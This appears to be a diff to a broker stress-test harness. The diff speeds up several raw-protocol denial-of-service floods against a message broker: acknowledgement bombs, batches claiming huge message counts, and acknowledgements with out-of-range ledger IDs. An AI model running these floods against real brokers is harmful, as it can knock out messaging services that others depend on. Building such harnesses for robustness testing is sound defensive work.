@@ -126,7 +126,7 @@ def _ack(ids, cumulative: bool, request_id: int) -> bytes:
 
 
 def _flood(conn: _Raw, frames, seconds: float) -> int:
-    """Send ``frames()`` back to back until ``seconds`` pass; the count sent."""
+    """Send ``frames(i)`` back to back until ``seconds`` pass (as fast as the broker reads); the count sent."""
     deadline, sent = time.monotonic() + seconds, 0
     while time.monotonic() < deadline:
         try:
@@ -150,7 +150,8 @@ def ack_bomb(port: int, topic: str, seconds: float) -> dict:
     ledger, entry = message.message.message_id.ledgerId, message.message.message_id.entryId
     ids = [pb.MessageIdData(ledgerId=ledger, entryId=entry + k, ack_set=[1], batch_size=HUGE) for k in range(ACK_IDS)]
     conn.listen()
-    frames = _flood(conn, lambda i: _ack(ids[:1] if i % 10 == 9 else ids, i % 10 == 9, i), seconds)
+    individual, cumulative = _ack(ids, False, 1), _ack(ids[:1], True, 2)  # built once: the attacker's CPU is cheap
+    frames = _flood(conn, lambda i: cumulative if i % 10 == 9 else individual, seconds)
     return {"frames": frames, "ids_per_frame": ACK_IDS, **conn.close()}
 
 
@@ -161,13 +162,11 @@ def poison_batch(port: int, topic: str, seconds: float) -> dict:
     _producer(conn, topic)
     conn.listen()
 
-    def send(i: int) -> bytes:
-        metadata = pb.MessageMetadata(producer_name="hostile", sequence_id=i, publish_time=int(time.time() * 1000),
-                                      num_messages_in_batch=HUGE)
-        return encode_payload_command(command(T.SEND, send=pb.CommandSend(producer_id=1, sequence_id=i,
-                                                                          num_messages=HUGE)), metadata, b"x" * 100)
-
-    return {"frames": _flood(conn, send, seconds), **conn.close()}
+    metadata = pb.MessageMetadata(producer_name="hostile", sequence_id=0, publish_time=int(time.time() * 1000),
+                                  num_messages_in_batch=HUGE)
+    frame = encode_payload_command(command(T.SEND, send=pb.CommandSend(producer_id=1, sequence_id=0, num_messages=HUGE)),
+                                   metadata, b"x" * 100)
+    return {"frames": _flood(conn, lambda i: frame, seconds), **conn.close()}
 
 
 def silent_connections(port: int, topic: str, seconds: float, count: int = 2000) -> dict:
@@ -266,12 +265,10 @@ def far_future_acks(port: int, topic: str, seconds: float, seed: int = 18) -> di
     _subscribe(conn, topic, "hostile-far-acks")
     conn.listen()
 
-    def ack(i: int) -> bytes:
-        ids = [pb.MessageIdData(ledgerId=rng.randrange(1 << 40, 1 << 63), entryId=rng.randrange(1 << 62))
-               for _ in range(1 if i % 10 == 9 else ACK_IDS)]
-        return _ack(ids, i % 10 == 9, i)
-
-    return {"frames": _flood(conn, ack, seconds), "ids_per_frame": ACK_IDS, **conn.close()}
+    frames = [_ack([pb.MessageIdData(ledgerId=rng.randrange(1 << 40, 1 << 63), entryId=rng.randrange(1 << 62))
+                    for _ in range(1 if i % 10 == 9 else ACK_IDS)], i % 10 == 9, i) for i in range(50)]
+    return {"frames": _flood(conn, lambda i: frames[i % len(frames)], seconds), "ids_per_frame": ACK_IDS,
+            **conn.close()}
 
 
 ATTACKS = {
